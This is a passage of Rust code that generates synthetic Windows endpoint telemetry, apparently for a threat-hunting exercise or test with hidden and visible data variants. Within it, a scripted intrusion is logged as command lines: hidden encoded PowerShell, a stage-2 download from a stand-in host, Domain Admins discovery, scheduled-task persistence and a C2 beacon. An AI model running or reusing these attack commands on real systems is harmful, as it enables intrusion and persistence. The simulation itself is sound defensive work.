                    let mut p = self.system(d, midnight, Img::Svchost, Img::Services, r"C:\WINDOWS\system32\svchost.exe -k DcomLaunch -p");
                    p.account = self.w.devices[d as usize].user as u32 + 1;
                    (p, Img::Broker, r"C:\Windows\System32\RuntimeBroker.exe -Embedding".to_string())
                }
                7 => (self.explorer(d, midnight), Img::PowerShell, r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" "#.to_string()),
                8 => (self.explorer(d, midnight), Img::Cmd, r#""C:\WINDOWS\system32\cmd.exe" "#.to_string()),
                9 => (
                    self.explorer(d, midnight),
                    Img::Notepad,
                    format!(r#""C:\WINDOWS\system32\NOTEPAD.EXE" {home}\Documents\notes_{}.txt"#, rng.pick(DOC_WORDS)),
                ),
                10 => {
                    let code = self.app(d, midnight, Img::Code, r#""C:\Program Files\Microsoft VS Code\Code.exe" "#);
                    (code, Img::Git, r#""C:\Program Files\Git\cmd\git.exe" -c core.quotepath=false status -z -uall"#.to_string())
                }
                11 => {
                    // An administrator's console: whoami and net are ordinary tools too.
                    let ex = self.explorer(d, midnight);
                    let cmd = self.child(&ex, Img::Cmd, r#""C:\WINDOWS\system32\cmd.exe" "#, t - 40 * TICKS_PER_SECOND, mix2(h, 3));
                    if rng.chance(1, 2) {
                        (cmd, Img::Whoami, "whoami".to_string())
                    } else {
                        (cmd, Img::Net, format!(r"net  use Z: \\{FILE_SERVER}\{}", rng.pick(TEAMS)))
                    }
                }
                12 => {
                    let ex = self.explorer(d, midnight);
                    let cmd = self.child(&ex, Img::Cmd, r#""C:\WINDOWS\system32\cmd.exe" "#, t - 2 * TICKS_PER_SECOND, mix2(h, 4));
                    (cmd, Img::Conhost, r"\??\C:\WINDOWS\system32\conhost.exe 0xffffffff -ForceV1".to_string())
                }
                13 => {
                    let ex = self.explorer(d, midnight);
                    (ex, Img::Code, r#""C:\Program Files\Microsoft VS Code\Code.exe" "#.to_string())
                }
                14 => {
                    let p = self.system(d, midnight, Img::Services, Img::Winlogon, r"C:\WINDOWS\system32\services.exe");
                    (p, Img::Svchost, format!(r"C:\WINDOWS\system32\svchost.exe -k netsvcs -p -s {}", rng.pick(SERVICES)))
                }
                15 => {
                    let p = self.system(d, midnight, Img::Svchost, Img::Services, r"C:\WINDOWS\system32\svchost.exe -k netsvcs -p -s Schedule");
                    (
                        p,
                        Img::Taskhostw,
                        rng.pick(&[
                            "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
                            "taskhostw.exe SYSTEM",
                            "taskhostw.exe Install $(Arg0)",
                        ])
                        .to_string(),
                    )
                }
                16 => {
                    let p = self.system(d, midnight, Img::SearchIdx, Img::Services, r"C:\WINDOWS\system32\SearchIndexer.exe /Embedding");
                    let n = rng.below(90);
                    (
                        p,
                        Img::SearchPh,
                        format!(
                            r#""C:\WINDOWS\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\Microsoft\Windows Search" "DownLevelDaemon""#
                        ),
                    )
                }
                17 => {
                    let p = self.system(
                        d,
                        midnight,
                        Img::MsMpEng,
                        Img::Services,
                        r#""C:\ProgramData\Microsoft\Windows Defender\platform\4.18.24090.11-0\MsMpEng.exe""#,
                    );
                    (p, Img::MpCmdRun, r#""C:\ProgramData\Microsoft\Windows Defender\platform\4.18.24090.11-0\MpCmdRun.exe" SignaturesUpdateService -ScheduleJob -RestrictPrivileges -DailyReschedule"#.to_string())
                }
                _ => {
                    let p = self.system(
                        d,
                        midnight,
                        Img::AgentExec,
                        Img::Svchost,
                        r#""C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe" -powershell"#,
                    );
                    let script = rng.pick(INTUNE_SCRIPTS);
                    (
                        p,
                        Img::PowerShell,
                        format!(
                            r#""C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -executionPolicy bypass -file "C:\Program Files (x86)\Microsoft Intune Management Extension\Policies\Scripts\{script}.ps1""#
                        ),
                    )
                }
            };
            if t <= init.created {
                t = init.created + (1 + rng.below(600) as i64) * TICKS_PER_SECOND;
            }
            let created = self.child(&init, image, &cmd, t, mix2(h, 9));
            self.push_process(t, d, init, created);
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn push_net(&mut self, t: i64, device: u32, init: Proc, action: &'static str, remote: &str, port: i32, url: &str, udp: bool, local_port: i32) {
        let public = !remote.starts_with("10.");
        let remote_ip = self.w.strings.id(remote);
        let url = self.w.strings.id(url);
        let home = self.day(device, local_midnight(t)).0;
        self.w.network.push(Ev { t, device, action, init, target: Target::Net { remote_ip, port, url, local_port, udp, public }, home, report: 0 });
    }

    fn background_network(&mut self, n: usize) {
        let seed = self.plan.spec.seed;
        let mut rng = Rng::stream(seed, streams::NETWORK);
        let hours = Weighted::new(self.plan.hour_weights.iter().copied());
        let users = self.user_pick();
        let kinds = Weighted::new([40, 16, 4, 10, 10, 12, 4, 8, 2]);
        let web = Weighted::new(WEB_HOSTS.iter().map(|w| w.1));
        for _ in 0..n {
            let (mut t, work) = self.pick_time(&mut rng, &hours);
            let d = users.sample(&mut rng) as u32;
            let midnight = local_midnight(t);
            let mut kind = kinds.sample(&mut rng);
            if !work && kind < 5 {
                kind = 5 + rng.index(3);
            }
            let local_port = 49152 + rng.below(16000) as i32;
            let (init, host, port, udp): (Proc, String, i32, bool) = match kind {
                0 => (
                    self.app(d, midnight, Img::Edge, r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default"#),
                    WEB_HOSTS[web.sample(&mut rng)].0.to_string(),
                    443,
                    false,
                ),
                1 => (
                    self.app(
                        d,
                        midnight,
                        Img::Teams,
                        r#""C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe" msteams:system-initiated"#,
                    ),
                    rng.pick(TEAMS_HOSTS).to_string(),
                    443,
                    false,
                ),
                2 => (
                    self.app(
                        d,
                        midnight,
                        Img::Teams,
                        r#""C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe" msteams:system-initiated"#,
                    ),
                    String::new(),
                    3478 + rng.below(4) as i32,
                    true,
                ),
                3 => (
                    self.app(d, midnight, Img::OneDrive, r#""C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background"#),
                    rng.pick(ONEDRIVE_HOSTS).to_string(),
                    443,
                    false,
                ),
                4 => (
                    self.app(d, midnight, Img::Outlook, r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" "#),
                    rng.pick(OUTLOOK_HOSTS).to_string(),
                    443,
                    false,
                ),
                5 => {
                    let (h, p) = rng.pick(WINDOWS_HOSTS);
                    (
                        self.system(d, midnight, Img::Svchost, Img::Services, r"C:\WINDOWS\system32\svchost.exe -k netsvcs -p -s wuauserv"),
                        h.to_string(),
                        p,
                        false,
                    )
                }
                6 => (
                    self.system(
                        d,
                        midnight,
                        Img::MsMpEng,
                        Img::Services,
                        r#""C:\ProgramData\Microsoft\Windows Defender\platform\4.18.24090.11-0\MsMpEng.exe""#,
                    ),
                    rng.pick(DEFENDER_HOSTS).to_string(),
                    443,
                    false,
                ),
                7 => (
                    self.system(d, midnight, Img::Svchost, Img::Services, r"C:\WINDOWS\system32\svchost.exe -k NetworkService -p -s Dnscache"),
                    String::new(),
                    53,
                    true,
                ),
                _ => (self.app(d, midnight, Img::Code, r#""C:\Program Files\Microsoft VS Code\Code.exe" "#), "github.com".to_string(), 443, false),
            };
            if t <= init.created {
                t = init.created + (1 + rng.below(600) as i64) * TICKS_PER_SECOND;
            }
            let remote = if kind == 7 {
                DNS_SERVER.to_string()
            } else if kind == 2 {
                format!("52.112.{}.{}", rng.below(128), 1 + rng.below(254))
            } else {
                host_ip(&host)
            };
            let action = match rng.below(100) {
                0..=2 if !udp => "ConnectionFailed",
                3 if !udp => "ConnectionAttempt",
                _ => "ConnectionSuccess",
            };
            self.push_net(t, d, init, action, &remote, port, &host, udp, local_port);
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn push_file(
        &mut self,
        t: i64,
        device: u32,
        init: Proc,
        action: &'static str,
        folder: &str,
        name: &str,
        size: i64,
        origin: (&str, &str, &str),
        previous: &str,
    ) {
        let home = self.day(device, local_midnight(t)).0;
        let hash = mix2(fnv(folder), size as u64);
        let target = Target::File {
            name: self.w.strings.id(name),
            folder: self.w.strings.id(folder),
            size,
            hash,
            origin: self.w.strings.id(origin.0),
            referrer: self.w.strings.id(origin.1),
            origin_ip: self.w.strings.id(origin.2),
            previous: self.w.strings.id(previous),
        };
        self.w.file.push(Ev { t, device, action, init, target, home, report: 0 });
    }

    fn background_files(&mut self, n: usize) {
        let seed = self.plan.spec.seed;
        let mut rng = Rng::stream(seed, streams::FILE);
        let hours = Weighted::new(self.plan.hour_weights.iter().copied());
        let users = self.user_pick();
        let kinds = Weighted::new([8, 10, 12, 15, 4, 3, 5, 2, 2]);
        for _ in 0..n {
            let (mut t, work) = self.pick_time(&mut rng, &hours);
            let d = users.sample(&mut rng) as u32;
            let midnight = local_midnight(t);
            let mut kind = kinds.sample(&mut rng);
            if !work && kind < 6 {
                kind = 6 + rng.index(2);
            }
            let home = self.user_home(d);
            let doc = format!("{}_{}", rng.pick(DOC_WORDS), rng.pick(DOC_WORDS));
            let size = 12_000 + rng.range(0, 3_000_000);
            let (init, action, folder, name, origin, previous): (Proc, &'static str, String, String, (String, String, String), String) = match kind {
                0 => {
                    let edge =
                        self.app(d, midnight, Img::Edge, r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default"#);
                    let ext = rng.pick(&["pdf", "docx", "xlsx", "zip", "msi", "png"]);
                    let site = rng.pick(TEAMS);
                    let name = format!("{doc}.{ext}");
                    let url = format!("https://contoso.sharepoint.com/sites/{site}/Shared%20Documents/{name}");
                    let referrer = format!("https://contoso.sharepoint.com/sites/{site}/Shared%20Documents/Forms/AllItems.aspx");
                    (edge, "FileCreated", format!(r"{home}\Downloads\{name}"), name, (url, referrer, host_ip("contoso.sharepoint.com")), String::new())
                }
                1 => {
                    let o = self.app(d, midnight, Img::Outlook, r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" "#);
                    let name = format!("{doc}.{}", rng.pick(&["pdf", "docx", "xlsx"]));
                    let cache = hex(rng.next_u64(), 8).to_uppercase();
                    (
                        o,
                        "FileCreated",
                        format!(r"{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{cache}\{name}"),
                        name,
                        Default::default(),
                        String::new(),
                    )
                }
                2 => {
                    let (img, ext, cmd) = if rng.chance(1, 2) {
                        (Img::Word, "docx", r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" "#)
                    } else {
                        (Img::Excel, "xlsx", r#""C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "#)
                    };
                    let p = self.app(d, midnight, img, cmd);
                    let name = format!("{doc}.{ext}");
                    (p, "FileModified", format!(r"{home}\OneDrive - Contoso\Documents\{name}"), name, Default::default(), String::new())
                }
                3 => {
                    let p = self.app(d, midnight, Img::OneDrive, r#""C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background"#);
                    let name = format!("{doc}.{}", rng.pick(&["docx", "xlsx", "pptx", "pdf"]));
                    let action = if rng.chance(1, 3) { "FileCreated" } else { "FileModified" };
                    (p, action, format!(r"{home}\OneDrive - Contoso\{}\{name}", rng.pick(TEAMS)), name, Default::default(), String::new())
                }
                4 => {
                    let ex = self.explorer(d, midnight);
                    let name = format!("{doc}_final.docx");
                    let old = format!("{doc}_draft.docx");
                    (ex, "FileRenamed", format!(r"{home}\Documents\{name}"), name, Default::default(), old)
                }
                5 => {
                    let ex = self.explorer(d, midnight);
                    let name = format!("{doc}.{}", rng.pick(&["pdf", "zip", "png"]));
                    (ex, "FileDeleted", format!(r"{home}\Downloads\{name}"), name, Default::default(), String::new())
                }
                6 => {
                    let p = self.system(d, midnight, Img::TrustedInstaller, Img::Services, r"C:\WINDOWS\servicing\TrustedInstaller.exe");
                    let name = format!("Windows11.0-KB50{}-x64.cab", 40000 + rng.below(9000));
                    let dir = hex(rng.next_u64(), 32);
                    (p, "FileCreated", format!(r"C:\Windows\SoftwareDistribution\Download\{dir}\{name}"), name, Default::default(), String::new())
                }
                7 => {
                    let p = self.system(
                        d,
                        midnight,
                        Img::MsMpEng,
                        Img::Services,
                        r#""C:\ProgramData\Microsoft\Windows Defender\platform\4.18.24090.11-0\MsMpEng.exe""#,
                    );
                    let name = rng.pick(&["mpavbase.vdm", "mpasbase.vdm", "mpavdlta.vdm"]).to_string();
                    (
                        p,
                        "FileCreated",
                        format!(r"C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{{{}}}\{name}", super::rng::guid(rng.next_u64()).to_uppercase()),
                        name,
                        Default::default(),
                        String::new(),
                    )
                }
                _ => {
                    let p = self.system(
                        d,
                        midnight,
                        Img::AgentExec,
                        Img::Svchost,
                        r#""C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe" -powershell"#,
                    );
                    let name = format!("{}.ps1", rng.pick(INTUNE_SCRIPTS));
                    (
                        p,
                        "FileCreated",
                        format!(r"C:\Program Files (x86)\Microsoft Intune Management Extension\Policies\Scripts\{name}"),
                        name,
                        Default::default(),
                        String::new(),
                    )
                }
            };
            if t <= init.created {
                t = init.created + (1 + rng.below(600) as i64) * TICKS_PER_SECOND;
            }
            let previous = if previous.is_empty() { String::new() } else { previous };
            self.push_file(t, d, init, action, &folder, &name, size, (&origin.0, &origin.1, &origin.2), &previous);
        }
    }

    /// The victim's chapter: download, shortcut, encoded PowerShell, discovery, persistence and
    /// the beacon (see the module documentation).
    fn story(&mut self) {
        let plan = self.plan;
        let clock = plan.spec.clock;
        let spike = hour_start(clock, plan.timeline.spike);
        let d = VICTIM as u32;
        let day = local_midnight(spike);
        let at = |m: i64, s: i64, ms: i64| spike + hms(0, m, s, ms);
        let home = self.user_home(d);
        let edge = self.app(d, day, Img::Edge, r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default"#);
        let explorer = self.explorer(d, day);
        let campaign = super::plan::CAMPAIGN_URL;

        // Edge opens the page (the Safe Links click at 09:11:48) and downloads the zip.
        self.push_net(at(11, 49, 310), d, edge, "ConnectionSuccess", STAGING_IP, 443, STAGING_HOST, false, 51_812);
        self.push_net(at(12, 29, 870), d, edge, "ConnectionSuccess", STAGING_IP, 443, STAGING_HOST, false, 51_833);
        let downloads = format!(r"{home}\Downloads");
        self.push_file(at(12, 31, 402), d, edge, "FileCreated", &format!(r"{downloads}\{ZIP_NAME}"), ZIP_NAME, 1_843, (ZIP_URL, campaign, STAGING_IP), "");
        let lnk_path = format!(r"{downloads}\Contoso_Password_Reset\{LNK_NAME}");
        self.push_file(at(13, 2, 655), d, explorer, "FileCreated", &lnk_path, LNK_NAME, 2_290, ("", "", ""), "");

        // The shortcut starts the encoded PowerShell.
        let ps_cmd = format!(r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc {}"#, encoded_command(STAGE1_SCRIPT));
        let t_ps = at(13, 19, 208);
        let ps = Proc { pid: 7316, ..self.child(&explorer, Img::PowerShell, &ps_cmd, t_ps, 0) };
        self.push_process(t_ps, d, explorer, ps);
        let stage2 = format!(r"{home}\AppData\Local\ContosoSync\{STAGE2_NAME}");
        self.push_file(at(13, 41, 77), d, ps, "FileCreated", &stage2, STAGE2_NAME, 4_112, ("https://cdn.contososync.net/s/sync.ps1", "", C2_IP), "");
        let whoami = Proc { pid: 4412, ..self.child(&ps, Img::Whoami, r#""C:\WINDOWS\system32\whoami.exe" /all"#, at(14, 2, 530), 0) };
        self.push_process(whoami.created, d, ps, whoami);
        // In the hidden copy the intruder also lists the token's privileges, so the rare
        // PowerShell-started `whoami` is counted twice there: per-tool and per-parent counts
        // then always differ from the visible data's, whatever the background happens to hold.
        if plan.spec.variant != 0 {
            let priv_ = Proc { pid: 4436, ..self.child(&ps, Img::Whoami, r#""C:\WINDOWS\system32\whoami.exe" /priv"#, at(14, 9, 118), 0) };
            self.push_process(priv_.created, d, ps, priv_);
        }
        let cmd = Proc { pid: 8120, ..self.child(&ps, Img::Cmd, r#""C:\WINDOWS\system32\cmd.exe" /c net group "Domain Admins" /domain"#, at(14, 20, 14), 0) };
        self.push_process(cmd.created, d, ps, cmd);
        let net = Proc { pid: 8844, ..self.child(&cmd, Img::Net, r#"net  group "Domain Admins" /domain"#, at(14, 20, 301), 0) };
        self.push_process(net.created, d, cmd, net);
        let task_cmd = format!(
            r#""C:\WINDOWS\system32\schtasks.exe" /create /sc onlogon /tn "{TASK_NAME}" /tr "powershell.exe -w hidden -ep bypass -f '%LOCALAPPDATA%\ContosoSync\{STAGE2_NAME}'" /f"#
        );
        let schtasks = Proc { pid: 2236, ..self.child(&ps, Img::Schtasks, &task_cmd, at(15, 10, 942), 0) };
        self.push_process(schtasks.created, d, ps, schtasks);

        // The beacon: every five minutes give or take thirty seconds, while the laptop is on.
        let mut rng = Rng::stream(plan.spec.seed, streams::BEACON);
        let mut beacon_proc = ps;
        let mut t = at(13, 24, 512);
        let mut midnight = day;
        let mut end = day + hms(17, 20, 0, 0) + rng.range(0, 40 * 60) * TICKS_PER_SECOND;
        loop {
            while t < end && t < clock {
                let port = 49152 + rng.below(16000) as i32;
                self.push_net(t, d, beacon_proc, "ConnectionSuccess", C2_IP, 443, C2_HOST, false, port);
                t += (BEACON_SECONDS + rng.range(-BEACON_JITTER_SECONDS, BEACON_JITTER_SECONDS + 1)) * TICKS_PER_SECOND + rng.range(0, 1000) * TICKS_PER_MILLI;
            }
            // The next working morning the logon task starts a new hidden PowerShell.
            midnight += TICKS_PER_DAY;
            while weekday(midnight) >= 5 {
                midnight += TICKS_PER_DAY;
            }
            let (_, logon) = self.day(d, midnight);
            let start = logon + 25 * TICKS_PER_SECOND + rng.range(0, 1000) * TICKS_PER_MILLI;
            if start >= clock {
                break;
            }
            let schedule = self.system(d, midnight, Img::Svchost, Img::Services, r"C:\WINDOWS\system32\svchost.exe -k netsvcs -p -s Schedule");
            let mut next = self.child(
                &schedule,
                Img::PowerShell,
                &format!(r#"powershell.exe -w hidden -ep bypass -f "{home}\AppData\Local\ContosoSync\{STAGE2_NAME}""#),
                start,
                mix2(self.key(d, midnight), 77),
            );
            next.account = d + 1;
            next.session = 1;
            self.push_process(start, d, schedule, next);
            beacon_proc = next;
            t = start + 6 * TICKS_PER_SECOND;
            end = midnight + hms(17, 20, 0, 0) + rng.range(0, 40 * 60) * TICKS_PER_SECOND;
        }
    }
}

/// Reads one column's cell from an event.
type Getter<'a> = Box<dyn Fn(&'a Ev) -> Val<'a> + 'a>;

/// The process an event created, for `DeviceProcessEvents` rows.
fn created(e: &Ev) -> Option<Proc> {
    match e.target {
        Target::Process(p) => Some(p),
        _ => None,
    }
}

/// A cell of a generated row.
enum Val<'a> {
    S(&'a str),
    Own(String),
    L(Option<i64>),
    I(Option<i32>),
    T(Option<i64>),
    B(bool),
}

/// A column being filled row by row, by type.
enum ColB {
    S(Dict, Vec<u32>, String, u32),
    L(Vec<i64>, Vec<bool>),
    I(Vec<i32>, Vec<bool>),
    T(Vec<i64>, Vec<bool>),
    B(Vec<bool>),
    D(ColumnBuilder),
}

impl ColB {
    fn new(ty: DataType, n: usize) -> ColB {
        match ty {
            DataType::String => ColB::S(Dict::new(), Vec::with_capacity(n), String::new(), u32::MAX),
            DataType::Long => ColB::L(Vec::with_capacity(n), Vec::with_capacity(n)),
            DataType::Int => ColB::I(Vec::with_capacity(n), Vec::with_capacity(n)),
            DataType::DateTime => ColB::T(Vec::with_capacity(n), Vec::with_capacity(n)),
            DataType::Bool => ColB::B(Vec::with_capacity(n)),
            DataType::Dynamic => ColB::D(ColumnBuilder::new(DataType::Dynamic, n)),
            other => unreachable!("no device column has type {other:?}"),
        }
    }

    fn push(&mut self, v: Val) {
        match (self, v) {
            (ColB::S(dict, codes, last, last_code), Val::Own(s)) => {
                *last_code = dict.code(&s);
                last.clear();
                codes.push(*last_code);
            }
            (ColB::S(dict, codes, last, last_code), Val::S(s)) => {
                if *last_code == u32::MAX || last != s {
                    *last_code = dict.code(s);
                    last.clear();
                    last.push_str(s);
                }
                codes.push(*last_code);
            }
            (ColB::L(v, ok), Val::L(x)) | (ColB::T(v, ok), Val::T(x)) => {
                v.push(x.unwrap_or_default());
                ok.push(x.is_some());
            }
            (ColB::I(v, ok), Val::I(x)) => {
                v.push(x.unwrap_or_default());
                ok.push(x.is_some());
            }
            (ColB::B(v), Val::B(b)) => v.push(b),
            (ColB::D(b), Val::S(text)) => {
                b.push(&if text.is_empty() { Value::Null } else { Value::Dynamic(Dynamic::parse_json(text).expect("generated JSON parses")) })
            }
            _ => unreachable!("a device column got a cell of another type"),
        }
    }

    fn finish(self) -> Column {
        match self {
            ColB::S(dict, codes, _, _) => dict.column(codes),
            ColB::L(v, ok) => Column::Long(Prim::with_validity(v, ok)),
            ColB::I(v, ok) => Column::Int(Prim::with_validity(v, ok)),
            ColB::T(v, ok) => Column::DateTime(Prim::with_validity(v, ok)),
            ColB::B(v) => bools(v),
            ColB::D(b) => b.finish(),
        }
    }
}

impl World {
    fn image(&self, i: Img) -> &Image {
        &IMAGES[i as usize]
    }

    fn path(&self, i: Img) -> &str {
        self.image(i).path
    }

    /// How to read column `name` from an event (shared by the three tables); chosen once per
    /// column, then applied to every row.
    fn getter<'a>(&'a self, name: &str) -> Getter<'a> {
        let s = |x: &'a str| Val::S(x);
        match name {
            "Timestamp" | "TimeGenerated" => Box::new(move |e: &'a Ev| Val::T(Some(e.t))),
            "DeviceId" => Box::new(move |e: &'a Ev| s(&self.dev(e).id)),
            "DeviceName" => Box::new(move |e: &'a Ev| s(&self.dev(e).name)),
            "ActionType" => Box::new(move |e: &'a Ev| s(e.action)),
            "FileName" => Box::new(move |e: &'a Ev| match e.target {
                Target::Process(p) => s(self.image(p.image).name),
                Target::File { name, .. } | Target::Misc { file: name, .. } => s(self.strings.get(name)),
                _ => s(""),
            }),
            "FolderPath" => Box::new(move |e: &'a Ev| match e.target {
                Target::Process(p) => s(self.path(p.image)),
                Target::File { folder, .. } | Target::Misc { folder, .. } => s(self.strings.get(folder)),
                _ => s(""),
            }),
            "SHA1" => Box::new(move |e: &'a Ev| self.hash(e, 0)),
            "SHA256" => Box::new(move |e: &'a Ev| self.hash(e, 1)),
            "MD5" => Box::new(move |e: &'a Ev| self.hash(e, 2)),
            "FileSize" => Box::new(move |e: &'a Ev| match e.target {
                Target::Process(p) => Val::L(Some(self.image(p.image).size)),
                Target::File { size, .. } => Val::L(Some(size)),
                _ => Val::L(None),
            }),
            "ProcessVersionInfoCompanyName" => Box::new(move |e: &'a Ev| s(created(e).map_or("", |p| self.image(p.image).company))),
            "ProcessVersionInfoProductName" => Box::new(move |e: &'a Ev| s(created(e).map_or("", |p| self.image(p.image).product))),
            "ProcessVersionInfoProductVersion" => Box::new(move |e: &'a Ev| s(created(e).map_or("", |p| self.image(p.image).version))),
            "ProcessVersionInfoInternalFileName" => {
                Box::new(move |e: &'a Ev| s(created(e).map_or("", |p| self.image(p.image).original.split('.').next().unwrap_or(""))))
            }
            "ProcessVersionInfoOriginalFileName" => Box::new(move |e: &'a Ev| s(created(e).map_or("", |p| self.image(p.image).original))),
            "ProcessVersionInfoFileDescription" => Box::new(move |e: &'a Ev| s(created(e).map_or("", |p| self.image(p.image).description))),
            "ProcessId" => Box::new(move |e: &'a Ev| Val::L(created(e).map(|p| p.pid))),
            "ProcessCommandLine" => Box::new(move |e: &'a Ev| s(created(e).map_or("", |p| self.strings.get(p.cmd)))),
            "ProcessIntegrityLevel" => Box::new(move |e: &'a Ev| s(created(e).as_ref().map_or("", integrity))),
            "ProcessTokenElevation" => Box::new(move |e: &'a Ev| s(created(e).as_ref().map_or("", elevation))),
            "ProcessCreationTime" => Box::new(move |e: &'a Ev| Val::T(created(e).map(|p| p.created))),
            "AccountDomain" => Box::new(move |e: &'a Ev| s(self.target_account(e).map_or("", |a| &a.domain))),
            "AccountName" => Box::new(move |e: &'a Ev| s(self.target_account(e).map_or("", |a| &a.name))),
            "AccountSid" => Box::new(move |e: &'a Ev| s(self.target_account(e).map_or("", |a| &a.sid))),
            "AccountUpn" => Box::new(move |e: &'a Ev| s(self.target_account(e).map_or("", |a| &a.upn))),
            "AccountObjectId" => Box::new(move |e: &'a Ev| s(self.target_account(e).map_or("", |a| &a.object_id))),
            "LogonId" => Box::new(move |e: &'a Ev| match e.target {
                Target::Logon { logon_id, .. } => Val::L(Some(logon_id)),
                _ => Val::L(created(e).map(|p| logon_id(p.account, e.device))),
            }),
            "InitiatingProcessAccountDomain" => Box::new(move |e: &'a Ev| s(&self.ia(e).domain)),
            "InitiatingProcessAccountName" => Box::new(move |e: &'a Ev| s(&self.ia(e).name)),
            "InitiatingProcessAccountSid" => Box::new(move |e: &'a Ev| s(&self.ia(e).sid)),
            "InitiatingProcessAccountUpn" => Box::new(move |e: &'a Ev| s(&self.ia(e).upn)),
            "InitiatingProcessAccountObjectId" => Box::new(move |e: &'a Ev| s(&self.ia(e).object_id)),
            "InitiatingProcessLogonId" => Box::new(move |e: &'a Ev| Val::L(Some(logon_id(e.init.account, e.device)))),
            "InitiatingProcessIntegrityLevel" => Box::new(move |e: &'a Ev| s(integrity(&e.init))),
            "InitiatingProcessTokenElevation" => Box::new(move |e: &'a Ev| s(elevation(&e.init))),
            "InitiatingProcessSHA1" => Box::new(move |e: &'a Ev| s(&self.ih(e).0)),
            "InitiatingProcessSHA256" => Box::new(move |e: &'a Ev| s(&self.ih(e).1)),
            "InitiatingProcessMD5" => Box::new(move |e: &'a Ev| s(&self.ih(e).2)),
            "InitiatingProcessFileName" => Box::new(move |e: &'a Ev| s(self.ii(e).name)),
            "InitiatingProcessFileSize" => Box::new(move |e: &'a Ev| Val::L(Some(self.ii(e).size))),
            "InitiatingProcessVersionInfoCompanyName" => Box::new(move |e: &'a Ev| s(self.ii(e).company)),
            "InitiatingProcessVersionInfoProductName" => Box::new(move |e: &'a Ev| s(self.ii(e).product)),
            "InitiatingProcessVersionInfoProductVersion" => Box::new(move |e: &'a Ev| s(self.ii(e).version)),
            "InitiatingProcessVersionInfoInternalFileName" => Box::new(move |e: &'a Ev| s(self.ii(e).original.split('.').next().unwrap_or(""))),
            "InitiatingProcessVersionInfoOriginalFileName" => Box::new(move |e: &'a Ev| s(self.ii(e).original)),
            "InitiatingProcessVersionInfoFileDescription" => Box::new(move |e: &'a Ev| s(self.ii(e).description)),
            "InitiatingProcessId" => Box::new(move |e: &'a Ev| Val::L(Some(e.init.pid))),
            "InitiatingProcessCommandLine" => Box::new(move |e: &'a Ev| s(self.strings.get(e.init.cmd))),
            "InitiatingProcessCreationTime" => Box::new(move |e: &'a Ev| Val::T(Some(e.init.created))),
            "InitiatingProcessFolderPath" => Box::new(move |e: &'a Ev| s(self.ii(e).path)),
            "InitiatingProcessParentId" => Box::new(move |e: &'a Ev| Val::L(Some(e.init.parent_pid))),
            "InitiatingProcessParentFileName" => Box::new(move |e: &'a Ev| s(self.image(e.init.parent).name)),
            "InitiatingProcessParentCreationTime" => Box::new(move |e: &'a Ev| Val::T(Some(e.init.parent_created))),
            "InitiatingProcessSignerType" => Box::new(move |e: &'a Ev| s(self.ii(e).signer)),
            "InitiatingProcessSignatureStatus" => Box::new(move |_e: &'a Ev| s("Valid")),
            "ReportId" => Box::new(move |e: &'a Ev| Val::L(Some(e.report))),
            "AppGuardContainerId"
            | "InitiatingProcessRemoteSessionDeviceName"
            | "InitiatingProcessRemoteSessionIP"
            | "ProcessRemoteSessionDeviceName"
            | "ProcessRemoteSessionIP" => Box::new(move |_e: &'a Ev| s("")),
            "AdditionalFields" => Box::new(move |e: &'a Ev| match e.target {
                Target::Misc { extra, .. } => s(self.strings.get(extra)),
                Target::Logon { kind: "Interactive", .. } => s(r#"{"IsLocalLogon":true}"#),
                Target::Logon { kind: "Network", .. } => s(r#"{"IsLocalLogon":false}"#),
                _ => s(""),
            }),
            "InitiatingProcessSessionId" => Box::new(move |e: &'a Ev| Val::L(Some(e.init.session))),
            "IsInitiatingProcessRemoteSession" | "IsProcessRemoteSession" | "IsAzureInfoProtectionApplied" => Box::new(move |_e: &'a Ev| Val::B(false)),
            "CreatedProcessSessionId" => Box::new(move |e: &'a Ev| Val::L(created(e).map(|p| p.session))),
            "RemoteIP" => Box::new(move |e: &'a Ev| match e.target {
                Target::Net { remote_ip, .. } | Target::Logon { remote_ip, .. } | Target::Misc { remote_ip, .. } => s(self.strings.get(remote_ip)),
                _ => s(""),
            }),
            "RemotePort" => Box::new(move |e: &'a Ev| match e.target {
                Target::Net { port, .. } => Val::I(Some(port)),
                Target::Logon { port, .. } | Target::Misc { port, .. } if port != 0 => Val::I(Some(port)),
                _ => Val::I(None),
            }),
            "RemoteUrl" => Box::new(move |e: &'a Ev| match e.target {
                Target::Net { url, .. } | Target::Misc { url, .. } => s(self.strings.get(url)),
                _ => s(""),
            }),
            "LocalIP" => Box::new(move |e: &'a Ev| s(if e.home { &self.dev(e).home_ip } else { &self.dev(e).office_ip })),
            "LocalPort" => Box::new(move |e: &'a Ev| match e.target {
                Target::Net { local_port, .. } => Val::I(Some(local_port)),
                _ => Val::I(None),
            }),
            "Protocol" => Box::new(move |e: &'a Ev| match e.target {
                Target::Net { udp, .. } => s(if udp { "Udp" } else { "Tcp" }),
                Target::Logon { protocol, .. } => s(protocol),
                _ => s(""),
            }),
            "LocalIPType" => Box::new(move |_e: &'a Ev| s("Private")),
